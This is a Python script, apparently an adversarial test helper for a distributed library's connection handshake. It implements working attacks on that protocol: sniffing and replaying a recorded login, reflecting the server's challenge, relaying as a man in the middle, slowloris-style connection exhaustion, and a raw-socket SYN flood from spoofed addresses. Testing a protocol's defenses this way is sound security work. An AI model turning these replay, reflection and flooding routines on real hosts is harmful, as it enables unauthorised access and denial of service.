"""One who is not of the step, and what he tries. Started by far_strangers.py on a node of his own.

    stranger.py record INTERFACE PORT FILE      what the first connection to the port begins with, from the packets
    stranger.py replay HOST PORT FILE           sends that again
    stranger.py reflect HOST PORT FILE          gives the host's own proof back to it
    stranger.py relay PORT HOST OTHER           stands between who connects here and another port
    stranger.py silent|slow|halves HOST PORT N  N connections that say nothing; a byte now and then; half a hello each
    stranger.py half-open HOST PORT N           N connections that are begun and never made, from addresses that are not his

Prints "ready" when the attack is under way, and "let in" if it succeeds; goes on until it is killed.
"""

from __future__ import annotations

import itertools
import resource
import select
import socket
import struct
import sys
import time

ACCEPTED, CHALLENGE, PROOF = 2, 6, 7  # kinds of frames: libdist/world/wireup/README.md
SYN = 2


def say(word: str) -> None:
    print(word, flush=True)


def frames(data: bytes) -> list[bytes]:
    """Whole frames: a length of four bytes, and that many."""
    out = []
    while len(data) >= 4 and len(data) >= (end := 4 + int.from_bytes(data[:4], "little")):
        out.append(data[:end])
        data = data[end:]
    return out


def read_frame(connection: socket.socket) -> bytes:
    """The next one; empty: the other side has closed the connection."""
    data = b""
    while not frames(data):
        try:
            more = connection.recv(1 if len(data) < 4 else 4 + int.from_bytes(data[:4], "little") - len(data))
        except OSError:
            return b""
        if not more:
            return b""
        data += more
    return data


def texts(frame: bytes) -> list[bytes]:
    data, out = frame[5:], []
    while data:
        length = int.from_bytes(data[:8], "little")
        out.append(data[8:8 + length])
        data = data[8 + length:]
    return out


def frame_of(kind: int, *fields: bytes) -> bytes:
    body = bytes([kind]) + b"".join(len(field).to_bytes(8, "little") + field for field in fields)
    return len(body).to_bytes(4, "little") + body


def connected(host: str, port: str) -> socket.socket:
    end = time.monotonic() + 30
    while True:
        try:
            return socket.create_connection((host, int(port)))
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.01)


def record(interface: str, port: str, file: str) -> None:
    """The packets of an interface carry both directions; this keeps those to the port, of the first connection."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as tap:
        tap.bind((interface, 0))
        say("ready")
        known = b""
        first: tuple[int, int] | None = None  # port of the other side, number of the first byte
        while len(frames(known)) < 3:
            packet = tap.recv(65535)
            if packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_TCP:
                continue
            tcp = packet[(packet[0] & 15) * 4:int.from_bytes(packet[2:4], "big")]
            source, to, sequence = struct.unpack("!HHI", tcp[:8])
            payload = tcp[(tcp[12] >> 4) * 4:]
            if to != int(port) or not payload:
                continue
            first = first or (source, sequence)
            if source == first[0] and sequence - first[1] == len(known):
                known += payload
    with open(file, "wb") as out:
        out.write(known)
    say("recorded")


def attack(host: str, port: str, file: str, proof_of) -> None:
    """Again and again: the recorded hello, a proof, the recorded join request."""
    with open(file, "rb") as recorded:
        hello, proof, request = frames(recorded.read())[:3]
    for attempt in itertools.count():
        connection = connected(host, port)
        if attempt % 2:  # all at once, without waiting for the challenge
            connection.sendall(hello + proof + request)
            challenge = read_frame(connection)
        else:
            connection.sendall(hello)
            challenge = read_frame(connection)
            if challenge[4:5] == bytes([CHALLENGE]):
                if attempt == 0:
                    say("challenged")
                connection.sendall(proof_of(challenge, proof) + request)
        while answer := read_frame(connection):
            if answer[4] == ACCEPTED:
                say("let in")
        if attempt == 1:
            say("ready")
        connection.close()
        time.sleep(0.01)


def relay(port: str, host: str, other: str) -> None:
    """Whoever looks for rank 0 here gets the challenge that he would get there."""
    with socket.create_server(("0.0.0.0", int(port))) as server:
        say("ready")
        while True:
            near, _ = server.accept()
            hello = read_frame(near)
            try:
                far = socket.create_connection((host, int(other)))
            except OSError:
                near.close()
                continue
            far.sendall(hello)
            challenge = read_frame(far)
            if challenge[4:5] == bytes([CHALLENGE]):
                say("challenged")
            near.sendall(challenge)
            if read_frame(near):
                say("let in")
            near.close()
            far.close()


def crowd(host: str, port: str, number: str, first: bytes, then: bytes) -> None:
    """Keeps `number` connections. Where the other side closes one, another one comes."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    connected(host, port).close()

    def one() -> socket.socket | None:
        try:
            out = socket.create_connection((host, int(port)), timeout=1)
            out.sendall(first)
        except OSError:
            return None
        out.setblocking(False)
        return out

    held = [each for _ in range(int(number)) if (each := one())]
    say(f"{len(held)} connections")
    say("ready")
    while True:
        time.sleep(0.02)
        for place in range(len(held)):
            try:
                if then:
                    held[place].send(then)
                elif place % 50 == 0 and select.select([held[place]], [], [], 0)[0]:
                    raise ConnectionResetError
            except BlockingIOError:  # as full as it can be
                continue
            except OSError:
                held[place].close()
                held[place] = one() or held[place]


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def half_open(host: str, port: str, number: str) -> None:
    connected(host, port).close()
    target = socket.inet_aton(host)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for count in itertools.count():
            if count == int(number):
                say("ready")
            source = target[:3] + bytes([10 + count % 240])  # nobody is there: the answer goes nowhere
            tcp = struct.pack("!HHIIBBHHH", 1024 + count % 60000, int(port), count, 0, 5 << 4, SYN, 65535, 0, 0)
            pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
            raw.sendto(header + tcp, (host, 0))
            if count > int(number):
                time.sleep(0.001)


def main() -> None:
    what, *words = sys.argv[1:]
    if what == "record":
        record(*words)
    elif what == "replay":
        attack(*words, lambda _challenge, proof: proof)
    elif what == "reflect":
        attack(*words, lambda challenge, _proof: frame_of(PROOF, texts(challenge)[1]))
    elif what == "relay":
        relay(*words)
    elif what == "silent":
        crowd(*words, b"", b"")
    elif what == "slow":
        crowd(*words, b"\x79\0\0\0", b"\x05")
    elif what == "halves":
        crowd(*words, b"\x79\0\0\0\x05" + bytes(60), b"")
    elif what == "half-open":
        half_open(*words)
    else:
        sys.exit(f"{what}?")


if __name__ == "__main__":
    main()
